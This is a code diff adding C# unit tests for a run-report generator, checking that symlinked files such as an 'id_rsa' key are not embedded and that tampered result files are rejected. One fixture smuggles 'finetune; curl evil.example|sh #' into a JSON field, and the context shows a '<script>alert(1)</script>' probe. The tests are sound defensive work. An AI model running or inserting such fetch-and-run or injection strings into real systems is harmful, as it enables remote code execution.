@@ -44,6 +44,41 @@ public sealed class RunReportTests
     }
 
     [Fact]
+    public void No_link_is_followed_and_no_other_files_bytes_get_into_the_page()
+    {
+        using var run = new SampleRun();
+        using var elsewhere = new SampleFolder();
+        File.WriteAllText(elsewhere.File("id_rsa"), "-----BEGIN OPENSSH PRIVATE KEY-----");
+        var png = ImageCodec.EncodePng(new RgbImage(3, 3));
+        File.WriteAllBytes(elsewhere.File("private.png"), png);
+        foreach (var target in new[] { elsewhere.File("id_rsa"), elsewhere.File("private.png") })
+        {
+            File.Delete(run.File("views.png"));
+            File.CreateSymbolicLink(run.File("views.png"), target);
+            Assert.DoesNotContain(Convert.ToBase64String(File.ReadAllBytes(target))[..24], File.ReadAllText(RunReport.Write(run.Path)));
+        }
+        File.Delete(run.File("views.png"));
+        File.Copy(elsewhere.File("id_rsa"), run.File("views.png"));
+        Assert.DoesNotContain(Convert.ToBase64String("-----BEGIN OPENSSH"u8), File.ReadAllText(RunReport.Write(run.Path)));
+        File.WriteAllBytes(run.File("views.png"), png);
+        Assert.Contains(Convert.ToBase64String(png), File.ReadAllText(RunReport.Write(run.Path)));
+
+        Directory.Delete(run.File("tensorboard"), recursive: true);
+        Directory.CreateSymbolicLink(run.File("tensorboard"), elsewhere.Path);
+        Assert.Contains("is a link", Assert.Throws<RunFolderException>(() => RunReport.Write(run.Path)).Message);
+        Assert.Equal(2, Directory.GetFiles(elsewhere.Path).Length);
+    }
+
+    [Fact]
+    public void A_result_of_somebody_elses_gets_no_words_into_commands_to_copy()
+    {
+        using var run = new SampleRun();
+        File.WriteAllText(run.File("evaluation-finetune.json"),
+            """{"protocol":"finetune; curl evil.example|sh #","top1":0.5,"top5":1,"labels":10,"fraction":0.1,"seed":1,"test_count":9}""");
+        Assert.Contains("is damaged", Assert.Throws<RunFolderException>(() => RunReport.Write(run.Path)).Message);
+    }
+
+    [Fact]
     public void Names_from_outside_are_text_and_never_markup()
     {
         using var run = new SampleRun("/data/<b>&\"x\"", "<script>alert(1)</script>");
